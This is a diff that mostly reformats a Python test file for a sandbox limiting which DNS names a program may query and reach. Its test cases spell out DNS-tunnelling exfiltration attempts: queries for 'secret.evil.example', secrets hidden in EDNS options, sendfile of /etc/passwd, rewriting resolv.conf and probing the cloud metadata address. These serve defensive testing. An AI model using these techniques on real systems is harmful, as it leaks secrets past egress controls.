@@ -1,5 +1,5 @@
-"""Programs that speak DNS themselves: plain questions about allowed names reach the system's name server, nothing else
-does, and what it answers may be reached."""
+"""Programs that speak DNS themselves: plain questions about allowed names reach the system's name
+server, nothing else does, and what it answers may be reached."""
 
 from __future__ import annotations
 
@@ -18,7 +18,15 @@ import dns.message
 import pytest
 
 from tests.attacks.sinks import ALLOWED, OUTSIDE, RESOLVER
-from tests.support import LAUNCHER, UNGUARDED, Event, clean_environment, policy_file, rules, split_events
+from tests.support import (
+    LAUNCHER,
+    UNGUARDED,
+    Event,
+    clean_environment,
+    policy_file,
+    rules,
+    split_events,
+)
 
 NAMESERVER = Path(__file__).with_name("nameserver.py")
 ENTRIES = [{"host": "api.allowed.example"}, {"host": "*.allowed.example"}]
@@ -28,7 +36,10 @@ REPORTS = rules({"mode": "alert", "allow": ENTRIES})
 
 
 def _namespaces() -> bool:
-    return subprocess.run(["unshare", "-rnm", "true"], capture_output=True, check=False).returncode == 0
+    return (
+        subprocess.run(["unshare", "-rnm", "true"], capture_output=True, check=False).returncode
+        == 0
+    )
 
 
 pytestmark = pytest.mark.skipif(not _namespaces(), reason="no network namespaces here")
@@ -50,7 +61,9 @@ class Run:
     def names(self) -> list[str]:
         """The names that the server was asked for."""
         return [
-            dns.message.from_wire(packet, ignore_trailing=True).question[0].name.to_text(omit_final_dot=True)
+            dns.message.from_wire(packet, ignore_trailing=True)
+            .question[0]
+            .name.to_text(omit_final_dot=True)
             for packet in self.asked
         ]
 
@@ -68,11 +81,21 @@ def run(tmp_path: Path) -> Runner:
 
     def go(*command: str, policy: Any = POLICY, guarded: bool = True) -> Run:
         seen = tmp_path / "seen.json"
-        inside = ["unshare", "-rnm", sys.executable, str(NAMESERVER), str(seen), str(tmp_path / "resolv.conf"), "--"]
+        inside = [
+            "unshare",
+            "-rnm",
+            sys.executable,
+            str(NAMESERVER),
+            str(seen),
+            str(tmp_path / "resolv.conf"),
+            "--",
+        ]
         launcher = [str(LAUNCHER)] if guarded and not UNGUARDED else []
         done = subprocess.run(
             [*inside, *launcher, *command],
-            env=clean_environment({"FUNCTION_SHIELD_POLICY": policy_file(policy), "AWS_LAMBDA_RUNTIME_API": ""}),
+            env=clean_environment(
+                {"FUNCTION_SHIELD_POLICY": policy_file(policy), "AWS_LAMBDA_RUNTIME_API": ""}
+            ),
             cwd=tmp_path,
             capture_output=True,
             text=True,
@@ -82,7 +105,15 @@ def run(tmp_path: Path) -> Runner:
         stderr, events = split_events(done.stderr)
         noted = json.loads(seen.read_text())
         asked = [bytes.fromhex(packet) for packet in noted["asked"]]
-        return Run(done.returncode, done.stdout.splitlines(), stderr, events, asked, noted["tcp"], noted["heard"])
+        return Run(
+            done.returncode,
+            done.stdout.splitlines(),
+            stderr,
+            events,
+            asked,
+            noted["tcp"],
+            noted["heard"],
+        )
 
     return go
 
@@ -92,11 +123,23 @@ def python(run: Runner, code: str, **options: Any) -> Run:
 
 
 def packet(
-    name: str, identity: int = 7, kind: int = 1, *, flags: int = 0x0100, more: bytes = b"", records: int = 0
+    name: str,
+    identity: int = 7,
+    kind: int = 1,
+    *,
+    flags: int = 0x0100,
+    more: bytes = b"",
+    records: int = 0,
 ) -> bytes:
     """A query."""
     labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
-    return struct.pack(">6H", identity, flags, 1, 0, 0, records) + labels + b"\0" + struct.pack(">2H", kind, 1) + more
+    return (
+        struct.pack(">6H", identity, flags, 1, 0, 0, records)
+        + labels
+        + b"\0"
+        + struct.pack(">2H", kind, 1)
+        + more
+    )
 
 
 TRY = f"""
@@ -127,10 +170,16 @@ for name in {names!r}:
 
 def test_dnspython_asks_for_allowed_names_and_reaches_them(run: Runner) -> None:
     code = (
-        DNSPYTHON.format(names=["api.allowed.example", "alias.allowed.example"], kind="A") + TRY + f"reach({ALLOWED!r})"
+        DNSPYTHON.format(names=["api.allowed.example", "alias.allowed.example"], kind="A")
+        + TRY
+        + f"reach({ALLOWED!r})"
     )
     result = python(run, code)
-    assert result.lines == [f"api.allowed.example {ALLOWED}", f"alias.allowed.example {ALLOWED}", f"{ALLOWED} reached"]
+    assert result.lines == [
+        f"api.allowed.example {ALLOWED}",
+        f"alias.allowed.example {ALLOWED}",
+        f"{ALLOWED} reached",
+    ]
     assert result.heard == [ALLOWED]
     assert result.violations == []
 
@@ -152,8 +201,8 @@ QUERIES = {
 
 @pytest.mark.parametrize("how", QUERIES.values(), ids=QUERIES)
 def test_answers_of_the_resolvers_own_functions(run: Runner, how: str) -> None:
-    code = TRY + (
-        "import ctypes\n"
+    code = (
+        TRY + "import ctypes\n"
         "libc, answer = ctypes.CDLL('libc.so.6'), ctypes.create_string_buffer(512)\n"
         f"name, packet = {ALLOWED_NAME.encode()!r}, {packet(ALLOWED_NAME)!r}\n"
         f"print({how} > 12, socket.inet_aton({ALLOWED!r}) in answer.raw)\n"
@@ -203,7 +252,7 @@ SENDS = {
     "writev": "out.connect(RESOLVER); os.writev(out.fileno(), [packet[:9], packet[9:]])",
     "sendmsg": "out.sendmsg([packet], [], 0, RESOLVER)",
     "sendmsg, connected": "out.connect(RESOLVER); out.sendmsg([packet[:3], packet[3:]])",
-    "a second number": "out = out.dup(); out.connect(RESOLVER); out.send(packet)",
+    "a second fd": "out = out.dup(); out.connect(RESOLVER); out.send(packet)",
 }
 SEND = """
 import os
@@ -220,12 +269,18 @@ except PermissionError:
 
 
 WAYS = [(how, "recv(512)") for how in SENDS.values()]
-WAYS += [(SENDS["sendto"], how) for how in ("recvfrom(512)", "recv_into(bytearray(512))", "recvmsg(512)")]
+WAYS += [
+    (SENDS["sendto"], how) for how in ("recvfrom(512)", "recv_into(bytearray(512))", "recvmsg(512)")
+]
 
 
 @pytest.mark.parametrize(("how", "receive"), WAYS)
 def test_every_way_to_ask(run: Runner, how: str, receive: str) -> None:
-    code = TRY + SEND.format(packet=packet("api.allowed.example"), how=how, receive=receive) + f"reach({ALLOWED!r})"
+    code = (
+        TRY
+        + SEND.format(packet=packet("api.allowed.example"), how=how, receive=receive)
+        + f"reach({ALLOWED!r})"
+    )
     result = python(run, code)
     assert result.lines == ["sent", f"{ALLOWED} reached"], result.stderr
     assert result.asked == [packet("api.allowed.example")]
@@ -250,11 +305,22 @@ MALFORMED = {
     ),
     "a second option after a cookie": packet(
         ALLOWED_NAME,
-        more=OPT[:-2] + struct.pack(">3H", 22, 10, 8) + b"SECRETS!" + struct.pack(">2H", 65001, 6) + b"SECRET",
+        more=OPT[:-2]
+        + struct.pack(">3H", 22, 10, 8)
+        + b"SECRETS!"
+        + struct.pack(">2H", 65001, 6)
+        + b"SECRET",
         records=1,
     ),
-    "another record": packet(ALLOWED_NAME, more=b"\0" + struct.pack(">HHIH", 16, 1, 0, 6) + b"SECRET", records=1),
-    "two questions": packet(ALLOWED_NAME)[:4] + b"\0\2" + packet(ALLOWED_NAME)[6:] + packet("a.evil.example")[12:],
+    "another record": packet(
+        ALLOWED_NAME, more=b"\0" + struct.pack(">HHIH", 16, 1, 0, 6) + b"SECRET", records=1
+    ),
+    "two questions": (
+        packet(ALLOWED_NAME)[:4]
+        + b"\0\2"
+        + packet(ALLOWED_NAME)[6:]
+        + packet("a.evil.example")[12:]
+    ),
     "an update": packet(ALLOWED_NAME, flags=0x2800),
     "an answer": packet(ALLOWED_NAME, flags=0x8180),
     "reserved header bits": packet(ALLOWED_NAME, flags=0x010F),
@@ -286,9 +352,11 @@ def test_a_cookie_stays_here(run: Runner) -> None:
 BEYOND = "out.sendto(b'SECRET', ('127.0.0.1', 9))"
 HELD_BACK = {
     "MSG_MORE": "out.sendto({question!r}, socket.MSG_MORE, RESOLVER); " + BEYOND,
-    "UDP_CORK": "out.setsockopt(17, 1, 1); out.sendto({question!r}, RESOLVER); "
-    + BEYOND
-    + "; out.setsockopt(17, 1, 0)",
+    "UDP_CORK": (
+        "out.setsockopt(17, 1, 1); out.sendto({question!r}, RESOLVER); "
+        + BEYOND
+        + "; out.setsockopt(17, 1, 0)"
+    ),
     "another name server": "out.sendto({question!r}, ({outside!r}, 53))",
     "a control message": "out.sendmsg([{question!r}], [(17, 103, b'\\x14\\0')], 0, RESOLVER)",
     "sendfile": "out.connect(RESOLVER); os.sendfile(out.fileno(), os.open('/etc/passwd', 0), 0, 6)",
@@ -310,8 +378,8 @@ def test_ways_around_the_reader(run: Runner, how: str) -> None:
 
 def test_an_inherited_socket_is_read_in_the_child(run: Runner) -> None:
     child = f"import os, sys; os.write(int(sys.argv[1]), {packet('secret.evil.example')!r})"
-    code = TRY + (
-        "import os, subprocess, sys\n"
+    code = (
+        TRY + "import os, subprocess, sys\n"
         "out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); out.connect(RESOLVER)\n"
         f"command = [sys.executable, '-c', {child!r}, str(out.fileno())]\n"
         "done = subprocess.run(command, pass_fds=[out.fileno()], stderr=subprocess.DEVNULL)\n"
@@ -324,7 +392,11 @@ def test_an_inherited_socket_is_read_in_the_child(run: Runner) -> None:
 
 def test_what_a_name_cannot_stand_for(run: Runner) -> None:
     code = DNSPYTHON.format(names=["metadata.allowed.example", "local.allowed.example"], kind="A")
-    code += "import socket\nsocket.getaddrinfo('metadata.allowed.example', 443)\n" + TRY + "reach('169.254.169.254')"
+    code += (
+        "import socket\nsocket.getaddrinfo('metadata.allowed.example', 443)\n"
+        + TRY
+        + "reach('169.254.169.254')"
+    )
     result = python(run, code)
     assert result.lines[-1] == "169.254.169.254 refused"
     assert result.heard == []
@@ -344,8 +416,8 @@ def test_an_answer_of_somebody_else_is_not_learnt(run: Runner) -> None:
     """The forger knows id, question and port, and his datagram lies in the queue first."""
     forged = packet(ALLOWED_NAME)[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + packet(ALLOWED_NAME)[12:]
     forged += b"\xc0\x0c\0\1\0\1\0\0\x0e\x10\0\4" + socket.inet_aton(OUTSIDE)
-    code = TRY + (
-        "out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); out.bind(('127.0.0.1', 0))\n"
+    code = (
+        TRY + "out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); out.bind(('127.0.0.1', 0))\n"
         "forger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
         f"forger.sendto({forged!r}, out.getsockname())\n"
         f"out.sendto({packet(ALLOWED_NAME)!r}, RESOLVER)\n"
@@ -385,12 +457,18 @@ def test_node_asks_for_no_other_name(run: Runner) -> None:
 
 def test_alert_changes_nothing_and_tells_each_once(run: Runner) -> None:
     said = packet("secret.evil.example", more=COOKIE, records=1)
-    code = TRY + SEND.format(packet=said, how=SENDS["send"], receive="recv(512)") + f"reach({OUTSIDE!r})"
+    code = (
+        TRY
+        + SEND.format(packet=said, how=SENDS["send"], receive="recv(512)")
+        + f"reach({OUTSIDE!r})"
+    )
     bare, result = python(run, code, guarded=False), python(run, code, policy=REPORTS)
     assert result.lines == bare.lines == ["sent", f"{OUTSIDE} reached"]
     assert result.asked == bare.asked == [said]
     # The question names no port, so the connection is an act of its own, and says which.
-    assert [(event["details"]["host"], event["details"]["port"]) for event in result.violations] == [
+    assert [
+        (event["details"]["host"], event["details"]["port"]) for event in result.violations
+    ] == [
         ("secret.evil.example", None),
         ("secret.evil.example", 443),
     ]
@@ -400,18 +478,20 @@ CHANGED = f"open('/etc/resolv.conf', 'w').write('nameserver {OUTSIDE}\\n')\n"
 
 
 def test_another_server_in_the_file_is_not_asked(run: Runner) -> None:
-    """Where the function can write to resolv.conf, the servers of the start count: libc must ask no other either."""
+    """Where the function can write to resolv.conf, the servers of the start count: libc must ask no
+    other either."""
     code = TRY + CHANGED + "socket.getaddrinfo('api.allowed.example', 443)"
     result = python(run, code)
     assert "Non-recoverable failure in name resolution" in result.stderr
-    assert [event["message"].split(":")[0].split(" tried to ")[1] for event in result.violations] == [
-        "ask another name server (dns)"
-    ]
+    assert [
+        event["message"].split(":")[0].split(" tried to ")[1] for event in result.violations
+    ] == ["ask another name server (dns)"]
 
 
 def test_a_child_has_the_servers_of_the_start(run: Runner) -> None:
     send = (
-        f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto({packet(ALLOWED_NAME)!r}, (host, 53)); print('sent')"
+        f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto({packet(ALLOWED_NAME)!r}, (host,"
+        " 53)); print('sent')"
     )
     child = (
         "import socket\n"
@@ -419,15 +499,19 @@ def test_a_child_has_the_servers_of_the_start(run: Runner) -> None:
         f"    try: {send}\n"
         "    except PermissionError: print('refused')\n"
     )
-    code = CHANGED + f"import subprocess, sys\nsubprocess.run([sys.executable, '-c', {child!r}], check=True)"
+    code = (
+        CHANGED
+        + f"import subprocess, sys\nsubprocess.run([sys.executable, '-c', {child!r}], check=True)"
+    )
     result = python(run, code)
     assert result.lines == ["refused", "sent"], result.stderr
 
 
 def test_a_probe_of_the_own_address_sends_nothing(run: Runner) -> None:
-    """As c-ares does to sort addresses: a UDP socket is connected to port 0 of a host that is allowed, by libc."""
-    code = TRY + (
-        "import ctypes\n"
+    """As c-ares does to sort addresses: a UDP socket is connected to port 0 of a host that is
+    allowed, by libc."""
+    code = (
+        TRY + "import ctypes\n"
         "socket.getaddrinfo('api.allowed.example', 443)\n"
         "libc = ctypes.CDLL('libc.so.6', use_errno=True)\n"
         "def probe(host):\n"
